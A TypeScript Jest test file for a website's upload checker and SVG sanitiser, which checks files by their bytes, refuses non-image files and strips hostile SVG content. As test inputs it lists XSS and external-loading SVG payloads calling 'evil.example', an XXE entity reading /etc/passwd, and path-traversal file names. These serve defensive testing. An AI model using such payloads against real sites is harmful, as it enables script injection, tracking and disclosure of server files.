/** @jest-environment node */
import { readdirSync, readFileSync } from "fs"
import { JSDOM } from "jsdom"
import path from "path"
import sharp from "sharp"
import { checkUpload, checkUploads, loadsNothing, publicName, rasterType, sanitizeSvg } from "../src/uploads"
import type { FileRecord } from "../src/source"
import { describeIssue, fileUses } from "../src/normalise"
import { snapshotSource } from "../src/snapshot"
import { loadContent } from "../src/load"

const CONTENT = path.resolve(__dirname, "../../../content")
const SVG = "http://www.w3.org/2000/svg"
const svg = (body: string, attributes = "") => `<svg xmlns="${SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${attributes}>${body}</svg>`
const sanitized = (text: string) => sanitizeSvg(Buffer.from(text, "utf8"))
const record = (id: string, filename_download: string): FileRecord => ({ id, filename_download })

/** A 2×2 picture of each raster type, as sharp writes it. */
async function raster(type: "jpeg" | "png" | "gif" | "webp" | "avif"): Promise<Buffer> {
  return sharp({ create: { width: 2, height: 2, channels: 3, background: "#c03" } }).toFormat(type).toBuffer()
}

describe("the type of an upload comes from its bytes", () => {
  test.each(["jpeg", "png", "gif", "webp", "avif"] as const)("%s by its signature, published with its own extension whatever its name", async type => {
    const bytes = await raster(type)
    expect(rasterType(bytes)).toBe(type)
    const checked = checkUpload(record("f", "logo.html"), bytes)
    expect(checked).toMatchObject({ name: "logo", ext: type === "jpeg" ? ".jpg" : `.${type}` })
    expect(checked?.bytes.equals(bytes)).toBe(true)
  })

  test("an SVG by parsing it, under any name: published sanitised, as .svg", () => {
    const checked = checkUpload(record("f", "logo.png"), Buffer.from(svg('<rect width="4" height="4"/><script>alert(1)</script>')))
    expect(checked?.ext).toBe(".svg")
    expect(checked?.bytes.toString()).toBe(svg('<rect width="4" height="4"/>'))
  })

  const refused: [string, string | Buffer][] = [
    ["an HTML page", "<!doctype html><html><body><script>alert(1)</script></body></html>"],
    ["an HTML page named .svg whose body holds an SVG", `<html><body>${svg("<rect/>")}</body></html>`],
    ["XHTML", '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>'],
    ["an <svg> root outside SVG's namespace", '<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>'],
    ["an <svg> root in no namespace", "<svg><rect/></svg>"],
    ["SVG that is not well-formed", `<svg xmlns="${SVG}"><g></svg>`],
    ["SVG with an external entity", `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="${SVG}"><text>&x;</text></svg>`],
    ["SVG that is not UTF-8", Buffer.concat([Buffer.from(`<svg xmlns="${SVG}"><text>`), Buffer.from([0xff, 0xfe]), Buffer.from("</text></svg>")])],
    ["a PDF", "%PDF-1.7\n1 0 obj << /JS (app.alert(1)) >> endobj"],
    ["JavaScript", "alert(document.domain)"],
    ["a ZIP archive", Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0])],
    ["a HEIC picture (an ISO media file, not AVIF)", Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from("ftypheic\0\0\0\0mif1heic")])],
    ["a truncated signature", Buffer.from([0xff, 0xd8])],
    ["nothing", Buffer.alloc(0)],
  ]
  test.each(refused)("refused: %s", (_, content) => {
    expect(checkUpload(record("f", "x.svg"), Buffer.isBuffer(content) ? content : Buffer.from(content))).toBeNull()
  })

  test("an SVG's doctype is not published, and its entities never expand into one another", () => {
    const out = sanitized(`<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><svg xmlns="${SVG}"><text>&b;</text></svg>`)
    expect(out).toBe(`<svg xmlns="${SVG}"><text>&amp;a;&amp;a;&amp;a;&amp;a;&amp;a;</text></svg>`)
  })
})

/** Parses sanitised SVG text again, as a browser opening it would. */
function parsed(text: string) {
  const { window } = new JSDOM("")
  const doc = new window.DOMParser().parseFromString(text, "image/svg+xml")
  const elements = [doc.documentElement, ...Array.from(doc.documentElement.querySelectorAll("*"))]
  return {
    root: doc.documentElement,
    elements: elements.map(el => `${el.namespaceURI === SVG ? "" : `${el.namespaceURI}:`}${el.localName}`),
    attributes: elements.flatMap(el => Array.from(el.attributes).map(a => `${el.localName} ${a.name}=${a.value}`)),
  }
}

const PNG_1PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="

/** Hostile SVG: each payload would run script, load from elsewhere or leave the file, marked `evil` or `alert`. */
const HOSTILE_SVG: [string, string][] = [
  ["a script element", "<script>alert(1)</script>"],
  ["a script in CDATA", "<script><![CDATA[alert(1)]]></script>"],
  ["a script by src", '<script href="https://evil.example/x.js"/><script xlink:href="https://evil.example/x.js"/>'],
  ["a prefixed SVG script", `<s:script xmlns:s="${SVG}">alert(1)</s:script>`],
  ["an XHTML script", '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'],
  ["event handlers in any case", '<rect onclick="alert(1)" OnMouseOver="alert(2)" onfocusin="alert(3)" onbegin="alert(4)"/>'],
  ["foreignObject with HTML", '<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(2)"/></foreignObject>'],
  ["embedded documents", '<iframe src="https://evil.example/"/><embed src="https://evil.example/"/><object data="https://evil.example/"/>'],
  ["links to script", '<a href="javascript:alert(1)"><text>a</text></a><a xlink:href=" JaVaScRiPt:alert(2)"><text>b</text></a><a href="data:text/html,alert(3)"><text>c</text></a>'],
  ["links to another site by a trick", '<a href="//evil.example/"><text>a</text></a><a href="/\\evil.example/"><text>b</text></a><a href="http://evil.example/"><text>c</text></a>'],
  ["use of another file (a <use> may point into its own file only)", '<use href="https://evil.example/sprite.svg#a"/><use xlink:href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/>'],
  ["images from elsewhere", '<image href="https://evil.example/track.png"/><image xlink:href="//evil.example/t.png"/><feImage href="https://evil.example/f.png"/>'],
  ["inline images that are no raster", '<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/><image href="data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="/>'],
  ["animations that write a link or a handler", '<a><animate attributeName="href" values="javascript:alert(1)"/><set attributeName="href" to="javascript:alert(2)"/><text>x</text></a><set attributeName="onmouseover" to="alert(3)"/>'],
  ["styles that load from elsewhere", '<style>@import url(https://evil.example/a.css);</style><style>rect{fill:url(https://evil.example/p.svg#g)}</style><style>rect{background:image-set("https://evil.example/i.png" 1x)}</style>'],
  ["a style hiding url() behind an escape", '<style>rect{background:u\\72l(https://evil.example/e.png)}</style>'],
  ["attributes that load from elsewhere", '<rect style="background:url(https://evil.example/s.png)" fill="url(https://evil.example/p.svg#g)" filter="url(//evil.example/f.svg#x)"/>'],
  ["a base URL and a relative link", '<g xml:base="https://evil.example/"><a href="x"><text>x</text></a></g>'],
  ["SVG Tiny handlers", '<handler type="application/ecmascript">alert(1)</handler><listener event="click" handler="#h"/>'],
]

describe("the SVG sanitiser", () => {
  test.each(HOSTILE_SVG)("drops %s", (_, payload) => {
    const out = sanitized(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>${svg(`<rect width="1" height="1" fill="#123"/>${payload}`, ' onload="alert(0)"')}`)
    expect(out).not.toBeNull()
    expect(out).not.toMatch(/alert|evil|javascript|xml-stylesheet/i)
    const { elements, attributes } = parsed(out!)
    expect(elements.filter(name => /script|foreignobject|iframe|embed|object|handler|listener|animate|set|:/i.test(name))).toEqual([])
    expect(attributes.filter(a => /^\S+ on/i.test(a))).toEqual([])
    // What is no payload stays.
    expect(attributes).toContain("rect fill=#123")
  })

  test("keeps what a logo is drawn with: shapes, text, gradients referenced by fragment, inline rasters, safe links and styles", () => {
    const logo = svg(
      `<defs><linearGradient id="g"><stop offset="0" stop-color="#0b1533"/></linearGradient><path id="p" d="M0 0H9"/></defs>` +
        `<style>.t{fill:url(#g);font-weight:700}</style><rect width="10" height="10" fill="url(#g)" style="opacity:.5" transform="rotate(45 5 5)"/>` +
        `<use href="#p"/><use xlink:href="#p"/><text class="t" font-family="Inter, sans-serif">Noor&#160;Pay</text>` +
        `<image width="1" height="1" href="data:image/png;base64,${PNG_1PX}"/>` +
        `<a href="https://www.lumenaut.dev/"><text>site</text></a><a href="/contact"><text>contact</text></a><a xlink:href="mailto:hello@lumenaut.dev"><text>mail</text></a>`,
      ' role="img" aria-label="Noor Pay"'
    )
    const out = sanitized(logo)!
    const { root, elements, attributes } = parsed(out)
    expect(root.getAttribute("role")).toBe("img")
    expect(root.getAttribute("aria-label")).toBe("Noor Pay")
    expect(elements).toEqual(["svg", "defs", "linearGradient", "stop", "path", "style", "rect", "use", "use", "text", "image", "a", "text", "a", "text", "a", "text"])
    expect(attributes).toEqual(expect.arrayContaining([
      "rect fill=url(#g)", "rect style=opacity:.5", "use href=#p", "use xlink:href=#p", `image href=data:image/png;base64,${PNG_1PX}`,
      "a href=https://www.lumenaut.dev/", "a href=/contact", "a xlink:href=mailto:hello@lumenaut.dev",
    ]))
    expect(out).toContain(".t{fill:url(#g);font-weight:700}")
    expect(out).toContain("Noor\u00a0Pay")
  })

  test("every SVG of the embedded snapshot keeps every element and attribute", () => {
    const files = readdirSync(path.join(CONTENT, "assets")).filter(file => file.endsWith(".svg"))
    expect(files.length).toBeGreaterThan(20)
    for (const file of files) {
      const text = readFileSync(path.join(CONTENT, "assets", file), "utf8")
      const before = parsed(text)
      const after = parsed(sanitized(text)!)
      expect([file, after.elements, after.attributes]).toEqual([file, before.elements, before.attributes])
    }
  })

  test("CSS loads nothing: url() only into the same file, no @import, image-set() or escapes", () => {
    for (const css of ["fill:url(#g)", "fill:url( '#g' )", "opacity:.5;font:700 1em Inter", "transform:rotate(45deg)"]) expect([css, loadsNothing(css)]).toEqual([css, true])
    for (const css of ["fill:url(https://x.example/a#g)", "fill:URL(x.svg#g)", "@import 'a.css'", "background:image-set('a.png' 1x)", "background:u\\72l(a.png)", "x:expression(alert(1))", "src(a.woff)"]) {
      expect([css, loadsNothing(css)]).toEqual([css, false])
    }
  })
})

test("a published name keeps letters, digits, dots, underscores and hyphens of the uploaded name, never its folders", () => {
  expect(publicName("client-noorpay.svg")).toBe("client-noorpay")
  expect(publicName("../../gatsby-node.ts")).toBe("gatsby-node")
  expect(publicName("Logo Final (2)?.v3#x.png")).toBe("Logo-Final-2-.v3-x")
  expect(publicName(".htaccess")).toBe("htaccess")
  expect(publicName("é.png")).toBe("file")
})

test("an upload of no allowed type is refused once for every item field that uses it; allowed ones are published", async () => {
  const png = await raster("png")
  const items = {
    clients: [{ id: 9, logo: "f-html" }, { id: 10, logo: "f-png" }],
    block_cards: [{ id: 3, layout: "logos", logo_cards: [{ title: "A", logo: "f-png" }, { title: "B", logo: { id: "f-html" } }] }],
  }
  const uses = [...fileUses("clients", items.clients), ...fileUses("block_cards", items.block_cards)]
  const { accepted, refused } = checkUploads(
    [{ record: record("f-html", "evil.html"), bytes: Buffer.from("<script>alert(1)</script>") }, { record: record("f-png", "logo.png"), bytes: png }],
    uses
  )
  expect(accepted.map(upload => `${upload.record.id} ${upload.name}${upload.ext}`)).toEqual(["f-png logo.png"])
  const problem = 'file f-html ("evil.html") is not a JPEG, PNG, GIF, WebP, AVIF or SVG picture (checked on its content): not published'
  expect(refused.map(describeIssue)).toEqual([
    `clients item 9, field "logo": ${problem}`,
    `block_cards item 3, field "logo_cards[1].logo": ${problem}`,
  ])
})

test("every file of the embedded snapshot is published under its own name and extension", async () => {
  const content = await loadContent(snapshotSource(CONTENT))
  expect(content.files.length).toBeGreaterThan(50)
  for (const { record: file, bytes } of content.files) {
    const checked = checkUpload(file, bytes)
    expect([file.filename_download, checked && `${checked.name}${checked.ext}`]).toEqual([file.filename_download, file.filename_download])
  }
})
